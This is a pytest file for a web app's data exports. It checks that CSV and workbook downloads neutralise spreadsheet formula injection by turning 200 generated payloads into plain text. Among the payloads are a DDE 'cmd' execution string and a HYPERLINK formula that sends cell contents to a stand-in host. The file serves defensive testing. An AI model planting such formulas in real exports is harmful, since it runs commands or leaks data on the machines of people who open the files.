"""A table saved from a page never begins a formula in a spreadsheet (threat 12)."""

from __future__ import annotations

import csv
import io
import itertools

import pytest
from openpyxl import Workbook, load_workbook

from api.downloads import workbook_download
from api.web.rendering import csv_bytes
from labels.render.cells import guarded_cell
from tests.support.browsing import signed_in
from tests.support.instance import ALUMINIUM, Instance, a_bom_file

STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://elsewhere.example?"&A1,"click")',
    "1+1",
    "SUM(A1:A9)*cmd",
    "-2+3",
    "@SUM(1)",
    "=1",
    " =1+1",
    "'=1",
    '"=1"',
    "1,2",
    "1e5+1",
    "#REF!",
    "IMPORTXML(1)",
    "DDE(1)",
    "\t=1",
    "\n=1",
    "x",
    "",
    "１＋１",
)
PAYLOADS = [start + body for start, body in itertools.product(STARTS, BODIES)]


def test_two_hundred_payloads_are_read_by_a_spreadsheet_as_text() -> None:
    assert len(PAYLOADS) == 200
    text = csv_bytes(["payload"], ([p] for p in PAYLOADS)).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert len(cells) == len(PAYLOADS)
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for number, cell in enumerate(cells, start=1):
        sheet.cell(row=number, column=1, value=cell.replace("\r", " "))
    stream = io.BytesIO()
    book.save(stream)
    read = load_workbook(io.BytesIO(stream.getvalue())).worksheets[0]
    kinds = {read.cell(row=n, column=1).data_type for n in range(1, len(cells) + 1)}
    assert "f" not in kinds


def test_two_hundred_payloads_are_text_in_a_workbook() -> None:
    rows = [[title] for title in ("payload", *PAYLOADS)]
    sent = workbook_download("payloads", rows[0], rows[1:], "payloads.xlsx")
    sheet = load_workbook(io.BytesIO(bytes(sent.body))).worksheets[0]
    cells = [sheet.cell(row=n, column=1) for n in range(2, len(PAYLOADS) + 2)]
    assert [cell.value for cell in cells] == PAYLOADS
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_keeps_its_text_behind_an_apostrophe(payload: str) -> None:
    assert guarded_cell(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-1", "+2.5", "-0.000001", "1250", "-1e-9", "0"])
def test_a_plain_number_stays_a_number(number: str) -> None:
    assert guarded_cell(number) == number


def test_the_lines_of_a_study_are_guarded_on_their_way_out(sqlite_instance: Instance) -> None:
    document = a_bom_file(ALUMINIUM)
    line = next(line for line in document["lines"] if line["kind"] != "assembly")
    line["name"] = "=HYPERLINK(1)"
    line["note"] = "@SUM(A1)"
    study = sqlite_instance.post("/v1/footprints", ALUMINIUM.preparer, document)
    browser = signed_in(sqlite_instance, ALUMINIUM.preparer)
    answer = browser.fetch(f"/studies/{study['id']}/lines.csv")
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    row = next(r for r in rows if r["Reference"] == line["ref"])
    assert row["Line"] == "'=HYPERLINK(1)"
    assert row["Note"] == "'@SUM(A1)"
    assert len(rows) == len(study["result"]["lines"])
    for row, result in zip(rows, study["result"]["lines"], strict=True):
        assert float(row["kg CO₂e"]) == pytest.approx(float(result["kg_co2e"]), abs=1e-12)
